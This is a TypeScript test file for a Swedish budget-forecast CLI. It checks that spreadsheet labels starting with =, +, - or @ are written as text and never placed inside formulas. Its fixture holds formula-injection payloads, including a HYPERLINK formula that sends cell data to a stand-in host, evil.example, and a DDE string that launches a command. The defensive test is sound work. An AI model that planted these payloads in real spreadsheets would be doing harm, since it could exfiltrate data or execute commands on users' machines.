/**
 * Formula injection: labels that begin with =, +, - or @ are text in the input and stay text in
 * every cell the tool writes (the budget sheet, the assumptions sheet, the standard tables).
 * No formula the tool writes ever contains a label's text.
 */
import ExcelJS from 'exceljs';
import { existsSync } from 'node:fs';
import { defaultConfig } from '../../src/domain/config';
import { forecast } from '../../src/domain/forecast/forecast';
import { buildTables } from '../../src/domain/tables';
import { snapshotOf } from '../../src/workbook/snapshot';
import { buildCli, runCli, tempDir, writeWorkbook } from './helpers';
import type { TestCell } from '../helpers/sheet';

const tmp = tempDir('inject');
beforeAll(buildCli);
afterAll(tmp.remove);

const HOSTILE = {
  section: '=HYPERLINK("http://evil.example/?"&B2,"Klicka här")',
  item: '=1+1 lön',
  plus: '+46 Lokal',
  minusSection: '-Projekt',
  at: '@SUM(1;2) insats',
  cmd: "=cmd|' /C calc'!A0",
};
const LABELS = Object.values(HOSTILE);

function hostileRows(): TestCell[][] {
  return [
    ['Intäkter', 'Budget 2026', 'Prognos 2027', 'Prognos 2028'],
    ['Försäkringskassan', 1000, 1000],
    ['Region Gotland', 1000, 1000],
    ['Summa samverkansmedel', { f: '=SUM(B2:B3)', v: 2000 }, { f: '=SUM(C2:C3)', v: 2000 }],
    [HOSTILE.cmd, 10, 10],
    ['Eget kapital', 500, 610],
    ['TOTALT', { f: '=SUM(B4:B6)', v: 2510 }, { f: '=SUM(C4:C6)', v: 2620 }],
    [],
    ['Kostnader', 'Budget 2026', 'Prognos 2027', 'Prognos 2028'],
    [HOSTILE.section],
    [HOSTILE.item, 1000, 1000],
    [HOSTILE.plus, 100, 100],
    ['Summa administration', { f: '=SUM(B11:B12)', v: 1100 }, { f: '=SUM(C11:C12)', v: 1100 }],
    [HOSTILE.minusSection],
    [HOSTILE.at, 300, 300],
    ['Summa projekt', { f: '=SUM(B15)', v: 300 }, { f: '=SUM(C15)', v: 300 }],
    ['Reserv eget kapital', 500, 500],
    ['SUMMA KOSTNADER', { f: '=B13+B16+B17', v: 1900 }, { f: '=C13+C16+C17', v: 1900 }],
  ];
}

function mentionsLabel(formula: string): string | undefined {
  // The distinctive parts of each label: none may appear inside a formula we write.
  const parts = ['HYPERLINK', 'evil.example', '1+1', 'lön', '46', 'Lokal', 'SUM(1;2)', 'insats', 'cmd', 'calc', 'Projekt'];
  return parts.find((p) => formula.includes(p));
}

/** Every cell of every sheet: labels must be strings; formulas must not carry label text. */
async function checkWorkbook(file: string): Promise<{ labelCells: number; formulas: number }> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  let labelCells = 0;
  let formulas = 0;
  for (const ws of wb.worksheets) {
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) {
          formulas++;
          const bad = mentionsLabel(cell.formula);
          if (bad) throw new Error(`${ws.name}!${cell.address}: the formula ${cell.formula} carries label text "${bad}"`);
        } else if (typeof cell.value === 'string' && LABELS.some((l) => cell.value === l || (cell.value as string).includes(l))) {
          expect(cell.type).toBe(ExcelJS.ValueType.String);
          labelCells++;
        }
      }),
    );
  }
  return { labelCells, formulas };
}

it('forecast and tables write labels beginning with =, +, - and @ as text, never as formulas', async () => {
  const input = await writeWorkbook(tmp.file('inject.xlsx'), [['Budget', hostileRows()]]);
  const before = await checkWorkbook(input);
  expect(before.labelCells).toBe(LABELS.length);

  const forecastOut = tmp.file('inject-prognos.xlsx');
  const f = runCli(tmp.dir, ['forecast', input, '-o', forecastOut, '--json']);
  expect(f.stderr).toBe('');
  expect(f.code).toBe(0);
  const afterForecast = await checkWorkbook(forecastOut);
  // The assumptions sheet lists the rows it filled by label: still text.
  expect(afterForecast.labelCells).toBeGreaterThan(LABELS.length);
  expect(afterForecast.formulas).toBeGreaterThan(before.formulas);

  const tablesOut = tmp.file('inject-tabeller.xlsx');
  const t = runCli(tmp.dir, ['tables', input, '-o', tablesOut, '--json']);
  expect(t.stderr).toBe('');
  expect(t.code).toBe(0);
  const afterTables = await checkWorkbook(tablesOut);
  expect(afterTables.labelCells).toBeGreaterThan(LABELS.length);
  expect(existsSync(input)).toBe(true);
});

it('the domain plans carry labels as values, never inside a formula', async () => {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('Budget');
  hostileRows().forEach((cells, r) =>
    cells.forEach((c, col) => {
      if (c === null || c === undefined) return;
      ws.getCell(r + 1, col + 1).value = typeof c === 'object' ? ({ formula: c.f.slice(1), result: c.v } as ExcelJS.CellFormulaValue) : c;
    }),
  );
  const snapshot = snapshotOf(ws);
  const plans = [
    ...forecast(snapshot, defaultConfig, { existingSheets: ['Budget'] }).plan,
    ...buildTables(snapshot, defaultConfig, { workbook: { sheetNames: ['Budget'], tableNames: [], sheets: [snapshot] } }).plan,
  ];
  let labelsWritten = 0;
  for (const plan of plans) {
    for (const edit of plan.edits) {
      if (edit.formula !== undefined) expect(mentionsLabel(edit.formula)).toBeUndefined();
      if (typeof edit.value === 'string' && LABELS.some((l) => (edit.value as string).includes(l))) {
        expect(edit.formula).toBeUndefined();
        labelsWritten++;
      }
    }
  }
  expect(labelsWritten).toBeGreaterThan(0);
});
